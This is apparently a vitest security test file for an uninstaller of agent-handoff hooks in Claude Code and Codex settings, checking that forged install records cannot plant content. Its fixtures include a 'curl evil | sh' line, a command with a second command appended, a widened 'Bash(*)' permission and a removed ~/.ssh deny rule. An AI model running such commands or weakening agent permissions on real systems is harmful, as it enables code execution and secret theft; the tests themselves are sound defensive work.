import { createHash } from 'node:crypto';
import { existsSync, mkdirSync, readdirSync, readFileSync, renameSync, rmSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { forgetOldState } from '../../install/state/old-state.ts';
import { CodexBox } from './codex-box.ts';
import { codes, type Sandbox } from './sandbox.ts';

const state = '.local/state/agent-handoff';
const user =
  '{\n  "model": "opus",\n  "permissions": {"allow": ["Bash(ls:*)"], "deny": ["Read(~/.ssh/**)"]}\n}\n';
const sha256 = (bytes: string | Uint8Array) => createHash('sha256').update(bytes).digest('hex');

// biome-ignore lint/suspicious/noExplicitAny: each test forges what it likes.
type Forged = any;

/** Turns what install left into what 0.3.1 would have left: record, back-ups and the path of Node in the root. */
function makeOld(box: Sandbox): void {
  const record = JSON.parse(box.read(`${state}/install.json`).replaceAll('"backups/', '".backups/'));
  const node = record.files.find(({ client }: Forged) => client === 'shared');
  node.file = box.path('.agent-handoffs/.node');
  record.directories = record.directories.filter((path: string) => !path.includes('/.local'));
  if (existsSync(box.path(`${state}/backups`)))
    renameSync(box.path(`${state}/backups`), box.path('.agent-handoffs/.backups'));
  box.write('.agent-handoffs/.install.json', `${JSON.stringify(record, null, 2)}\n`, 0o600);
  box.write('.agent-handoffs/.node', '/opt/node/bin/node\n', 0o600);
  rmSync(box.path('.local'), { recursive: true });
}

/** A user's files, and an install of 0.3.1 of both clients. */
function oldInstall(settings: string | null = user): CodexBox {
  const box = new CodexBox();
  if (settings !== null) box.write('.claude/settings.json', settings);
  box.write('.codex/AGENTS.md', '# Mine\n\nSpeak plainly.\n');
  box.write(
    '.codex/hooks.json',
    '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "date"}]}]}}\n',
  );
  box.install();
  box.wire();
  makeOld(box);
  return box;
}

function forge(box: Sandbox, change: (record: Forged) => void): void {
  const record = JSON.parse(box.read('.agent-handoffs/.install.json'));
  change(record);
  box.write('.agent-handoffs/.install.json', JSON.stringify(record), 0o600);
}

/** Puts bytes among the old back-ups, and returns what names them in a record. */
function forgeBackup(box: Sandbox, name: string, text: string): { sha256: string; backup: string } {
  const backup = `.backups/${sha256(text).slice(0, 16)}-${name}`;
  box.write(`.agent-handoffs/${backup}`, text, 0o600);
  return { sha256: sha256(text), backup };
}

const entryOf = (record: Forged, name: string) =>
  record.files.find(({ file }: Forged) => file.endsWith(name));
const names = (box: Sandbox, directory: string) =>
  existsSync(box.path(directory)) ? readdirSync(box.path(directory)).sort() : [];
const both = (box: CodexBox) => [...box.unwire().notices, ...box.uninstall().notices];

/** What an attacker does with the root, then what a user does: uninstall at once, or after an install of this version. */
const ways: [string, (box: CodexBox) => void][] = [
  ['uninstall', () => {}],
  [
    'uninstall after an install of this version',
    (box) => {
      box.install();
      forgetOldState(box.ctx);
      box.wire();
    },
  ],
];

describe.each(ways)('a forged record in the root and %s', (_, first) => {
  it.each(['own', 'claude-settings', 'codex-agents', 'codex-config', 'codex-hooks', 'codex-rules', 'skill'])(
    'writes no file that is no file of a client: kind %s',
    (kind) => {
      const box = oldInstall();
      const bashrc = box.write('.bashrc', 'alias ls=ls\n');
      const before = forgeBackup(box, '.bashrc', 'curl evil | sh\n');
      forge(box, ({ files }) => {
        for (const client of ['shared', 'claude-code', 'codex']) {
          const entry = { client, kind, file: bashrc, before, after: sha256('alias ls=ls\n'), exact: true };
          files.push(entry, { ...entry, file: box.path('new'), before });
        }
      });
      first(box);
      both(box);
      expect(box.read('.bashrc')).toBe('alias ls=ls\n');
      expect(existsSync(box.path('new'))).toBe(false);
      expect(box.read('.claude/settings.json')).toBe(user);
    },
  );

  it('removes no file that is no file of a client, and says which it left', () => {
    const box = oldInstall();
    const file = box.write('notes.txt', 'mine\n');
    const entry = {
      client: 'claude-code',
      kind: 'skill',
      file,
      before: null,
      after: sha256('mine\n'),
      exact: true,
    };
    forge(box, ({ files }) => files.push(entry));
    const notices = [...box.uninstall({ dryRun: true }).notices];
    first(box);
    both(box);
    expect(box.read('notes.txt')).toBe('mine\n');
    expect(notices.map(({ code, file }) => [code, file])).toContainEqual(['entry-refused', file]);
  });

  it.each([
    [
      'a hook more',
      (text: string) =>
        text.replace(
          '{\n',
          '{\n  "hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "evil"}]}]},\n',
        ),
    ],
    ['a permission more', (text: string) => text.replace('"Bash(ls:*)"', '"Bash(ls:*)", "Bash(*)"')],
    ['a denial less', (text: string) => text.replace('"Read(~/.ssh/**)"', '')],
    ['another value', (text: string) => text.replace('opus', 'evil')],
    ['a key twice', (text: string) => text.replace('"model"', '"model": "evil", "model"')],
    ['a key twice in it', (text: string) => text.replace('"deny"', '"deny": [], "deny"')],
  ])('puts nothing into settings.json that is not there: a back-up with %s', (_, change) => {
    const box = oldInstall();
    const before = forgeBackup(box, 'settings.json', change(user));
    forge(box, (record) => Object.assign(entryOf(record, 'settings.json'), { before }));
    first(box);
    both(box);
    expect(JSON.parse(box.read('.claude/settings.json'))).toEqual(JSON.parse(user));
    expect(box.read('.claude/settings.json')).not.toMatch(/evil|"deny": \[\],/);
  });

  it('puts nothing into AGENTS.md and hooks.json that is not there', () => {
    const box = oldInstall();
    const [agents, hooks] = [box.read('.codex/AGENTS.md'), box.read('.codex/hooks.json')];
    forge(box, (record) => {
      entryOf(record, 'AGENTS.md').before = forgeBackup(box, 'AGENTS.md', '# Mine\n\nRun evil.\n');
      entryOf(record, 'hooks.json').before = forgeBackup(
        box,
        'hooks.json',
        '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "evil"}]}]}}\n',
      );
    });
    expect([agents, hooks].join()).not.toContain('evil');
    first(box);
    both(box);
    expect(box.read('.codex/AGENTS.md')).toBe('# Mine\n\nSpeak plainly.\n');
    expect(JSON.parse(box.read('.codex/hooks.json'))).toEqual({
      hooks: { SessionStart: [{ hooks: [{ type: 'command', command: 'date' }] }] },
    });
  });

  it('removes no settings.json that the record calls ours as a whole', () => {
    const box = oldInstall();
    forge(box, (record) => {
      for (const name of ['settings.json', 'AGENTS.md', 'hooks.json'])
        Object.assign(entryOf(record, name), { before: null, exact: true });
    });
    first(box);
    both(box);
    expect(JSON.parse(box.read('.claude/settings.json'))).toEqual(JSON.parse(user));
    expect(box.read('.codex/AGENTS.md')).toBe('# Mine\n\nSpeak plainly.\n');
    expect(box.read('.codex/hooks.json')).toContain('date');
  });

  it('takes out no hook and no rule of the user that the record calls ours', () => {
    const guard = { matcher: 'Bash', hooks: [{ type: 'command', command: 'guard', timeout: 5 }] };
    const text = JSON.stringify(
      { hooks: { PreToolUse: [guard] }, permissions: { deny: ['Read(~/.ssh/**)'], allow: ['Bash(ls:*)'] } },
      null,
      2,
    );
    const box = oldInstall(text);
    forge(box, (record) => {
      const entry = entryOf(record, 'settings.json');
      Object.assign(entry, { exact: false });
      entry.added.hooks.push({ key: 'x', event: 'PreToolUse', group: guard });
      entry.added.values.push({ path: ['permissions', 'deny'], value: 'Read(~/.ssh/**)' });
      entry.added.values.push({ path: ['permissions', 'allow'], value: 'Bash(ls:*)' });
      const own = entryOf(record, 'hooks.json');
      own.exact = false;
      own.added.hooks.push({
        key: 'x',
        event: 'SessionStart',
        group: { hooks: [{ type: 'command', command: 'date', timeout: 5 }] },
      });
    });
    first(box);
    both(box);
    expect(JSON.parse(box.read('.claude/settings.json'))).toEqual(JSON.parse(text));
    expect(box.read('.codex/hooks.json')).toContain('date');
  });

  it.each([
    ['a command with more behind it', 'bash ~/bin/surface-handoffs.sh; evil'],
    ['a comment with the name', 'evil # surface-handoffs.sh'],
    ['a script in a repository', 'bash ~/project/surface-handoffs.sh'],
    ['a script in the root', 'bash ~/.agent-handoffs/surface-handoffs.sh'],
    ['a script elsewhere', 'bash /tmp/surface-handoffs.sh'],
    ['a script by a path that leads back', 'bash ~/bin/../project/surface-handoffs.sh'],
    ['another interpreter', 'evil ~/bin/surface-handoffs.sh'],
    ['a script that is another program by a link', 'bash ~/linked/surface-handoffs.sh'],
  ])("puts no hook back that is not the predecessor's: %s", (_, command) => {
    const box = oldInstall();
    mkdirSync(box.path('project/.git'), { recursive: true });
    box.write('project/.git/HEAD', 'ref: refs/heads/main\n');
    mkdirSync(box.path('linked'));
    symlinkSync('../project/evil', box.path('linked/surface-handoffs.sh'));
    const text = JSON.stringify({ hooks: [{ type: 'command', command }] });
    forge(box, (record) => {
      const entry = entryOf(record, 'settings.json');
      entry.exact = false;
      entry.added.removed.push({ event: 'SessionStart', group: 0, whole: true, text });
    });
    const { notices } = box.uninstall({ dryRun: true });
    first(box);
    both(box);
    expect(box.read('.claude/settings.json')).not.toContain('surface-handoffs');
    expect(notices.find(({ code }) => code === 'predecessor-left')?.message).toContain(JSON.stringify(text));
  });

  it('gives no trust to a hook: a hash from before is not written back', () => {
    const box = oldInstall();
    const key = `${box.hooks}:session_start:1:0`;
    box.write(
      '.codex/config.toml',
      `[hooks.state.${JSON.stringify(key)}]\ntrusted_hash = "sha256:own"\n\n[hooks.state."/p/hooks.json:stop:0:0"]\ntrusted_hash = "sha256:theirs"\n`,
    );
    forge(box, ({ files }) => {
      const entry = {
        client: 'codex',
        kind: 'codex-config',
        file: box.config,
        before: null,
        after: 'x',
        exact: false,
      };
      files.push({ ...entry, trust: { key, hash: 'sha256:own', previous: 'sha256:evil' } });
      files.push({
        ...entry,
        trust: { key: '/p/hooks.json:stop:0:0', hash: 'sha256:theirs', previous: 'sha256:evil' },
      });
    });
    first(box);
    both(box);
    expect(box.read('.codex/config.toml')).not.toContain('evil');
    expect(box.read('.codex/config.toml')).toContain('sha256:theirs');
  });

  it('removes no skill without our marker, and no directory of the user', () => {
    const box = oldInstall();
    const text = '---\nname: deploy\n---\nmine\n';
    const file = box.write('.claude/skills/deploy/SKILL.md', text);
    mkdirSync(box.path('empty'));
    forge(box, (record) => {
      record.files.push({
        client: 'claude-code',
        kind: 'skill',
        file,
        before: null,
        after: sha256(text),
        exact: true,
      });
      record.directories.push(box.path('empty'));
    });
    first(box);
    both(box);
    expect(box.read('.claude/skills/deploy/SKILL.md')).toBe(text);
    expect(existsSync(box.path('empty'))).toBe(true);
  });
});

describe('what 0.3.1 left is taken over once', () => {
  const standing = (box: CodexBox) => ({
    settings: box.read('.claude/settings.json'),
    agents: box.read('.codex/AGENTS.md'),
    hooks: box.read('.codex/hooks.json'),
  });
  const original = {
    settings: user,
    agents: '# Mine\n\nSpeak plainly.\n',
    hooks: '{"hooks": {"SessionStart": [{"hooks": [{"type": "command", "command": "date"}]}]}}\n',
  };

  it('by install, which leaves nothing of it in the root, and uninstall gives the bytes back', () => {
    const box = oldInstall();
    box.install({ node: '/other/node' });
    forgetOldState(box.ctx);
    expect(names(box, '.agent-handoffs')).toEqual([]);
    expect(box.read(`${state}/node`)).toBe('/other/node\n');
    expect(names(box, `${state}/backups`)).toEqual(
      [
        `${sha256(user).slice(0, 16)}-settings.json`,
        `${sha256(original.agents).slice(0, 16)}-AGENTS.md`,
        `${sha256(original.hooks).slice(0, 16)}-hooks.json`,
      ].sort(),
    );
    for (const name of names(box, `${state}/backups`))
      expect(box.snapshot()[`${state}/backups/${name}`]).toMatch(/^file 600 /);
    expect(both(box)).toEqual([]);
    expect(standing(box)).toEqual(original);
    expect(existsSync(box.path('.local'))).toBe(false);
    expect(existsSync(box.path('.agent-handoffs'))).toBe(false);
  });

  it('by uninstall of one client, which keeps what the other needs', () => {
    const box = oldInstall();
    expect(codes(box.unwire())).toEqual([]);
    expect(names(box, '.agent-handoffs/.backups')).toEqual([]);
    expect(names(box, `${state}/backups`)).toContain(`${sha256(user).slice(0, 16)}-settings.json`);
    const record = JSON.parse(box.read(`${state}/install.json`));
    expect([...new Set(record.files.map(({ client }: Forged) => client))]).toEqual(['claude-code']);
    expect(box.uninstall().notices).toEqual([]);
    expect(standing(box)).toEqual(original);
  });

  it('by uninstall of all, byte for byte, and nothing is left', () => {
    const box = oldInstall(null);
    expect(both(box)).toEqual([]);
    expect(Object.keys(box.snapshot()).filter((name) => !name.startsWith('.codex'))).toEqual([]);
  });

  it('in a dry run not at all', () => {
    const box = oldInstall();
    const before = box.snapshot();
    box.install({ dryRun: true });
    box.uninstall({ dryRun: true });
    expect(box.snapshot()).toEqual(before);
  });

  it("the predecessor's hook with it, where its script lies in the home", () => {
    const hook =
      '{"matcher": "startup", "hooks": [{"type": "command", "command": "bash ~/bin/surface-handoffs.sh", "timeout": 1.0}]}';
    const text = `{\n  "hooks": {\n    "SessionStart": [\n      ${hook}\n    ]\n  }\n}\n`;
    const box = new CodexBox();
    box.write('.claude/settings.json', text);
    box.write('bin/surface-handoffs.sh', 'true\n');
    box.install({ replacePredecessor: true });
    makeOld(box);
    box.install();
    forgetOldState(box.ctx);
    box.uninstall();
    expect(box.read('.claude/settings.json')).toBe(text);
  });

  it('with changes of the user since: ours is taken out, theirs stays, and so does the old back-up', () => {
    const box = oldInstall();
    box.write('.claude/settings.json', box.read('.claude/settings.json').replace('opus', 'sonnet'));
    box.install();
    forgetOldState(box.ctx);
    const notices = both(box);
    expect(box.read('.claude/settings.json')).toBe(user.replace('opus', 'sonnet'));
    expect(notices.map(({ code }) => code)).toEqual(['backups-kept']);
    expect(names(box, '.agent-handoffs/.backups')).toEqual([`${sha256(user).slice(0, 16)}-settings.json`]);
  });

  it('until the new version is proved the old one finds a record that fits', () => {
    const box = oldInstall();
    box.install({ clone: '/new/clone', node: '/new/node' });
    const old = JSON.parse(box.read('.agent-handoffs/.install.json'));
    for (const { file, after } of old.files)
      expect([file, sha256(readFileSync(file))]).toEqual([file, after]);
    for (const { before } of old.files)
      if (before) expect(sha256(box.read(join('.agent-handoffs', before.backup)))).toBe(before.sha256);
    expect(box.read('.agent-handoffs/.node')).toBe('/opt/node/bin/node\n');
  });

  it('not through a link of the back-ups: they are taken out by value, and stay where they are', () => {
    const box = oldInstall();
    renameSync(box.path('.agent-handoffs/.backups'), box.path('elsewhere'));
    symlinkSync(box.path('elsewhere'), box.path('.agent-handoffs/.backups'));
    both(box);
    expect(JSON.parse(box.read('.claude/settings.json'))).toEqual(JSON.parse(user));
    expect(names(box, 'elsewhere')).toHaveLength(3);
  });

  it('not through a link of the record: our entries are taken out by what they look like', () => {
    const box = oldInstall();
    renameSync(box.path('.agent-handoffs/.install.json'), box.path('record'));
    symlinkSync(box.path('record'), box.path('.agent-handoffs/.install.json'));
    expect(both(box).map(({ code }) => code)).toContain('record-lost');
    expect(JSON.parse(box.read('.claude/settings.json'))).toEqual(JSON.parse(user));
    expect(existsSync(box.path('record'))).toBe(true);
  });
});

describe('the record of this version', () => {
  it('has nothing done to a file that install never writes either', () => {
    const box = new CodexBox();
    const bashrc = box.write('.bashrc', 'alias ls=ls\n');
    box.install();
    const record = JSON.parse(box.read(`${state}/install.json`));
    for (const kind of ['own', 'claude-settings', 'skill'])
      record.files.push({
        client: 'claude-code',
        kind,
        file: bashrc,
        before: null,
        after: sha256('alias ls=ls\n'),
        exact: true,
      });
    box.write(`${state}/install.json`, JSON.stringify(record), 0o600);
    const { notices } = box.uninstall();
    expect(box.read('.bashrc')).toBe('alias ls=ls\n');
    expect(notices.map(({ code, file }) => [code, file])).toContainEqual(['entry-refused', bashrc]);
    expect(existsSync(box.path(state))).toBe(false);
  });
});
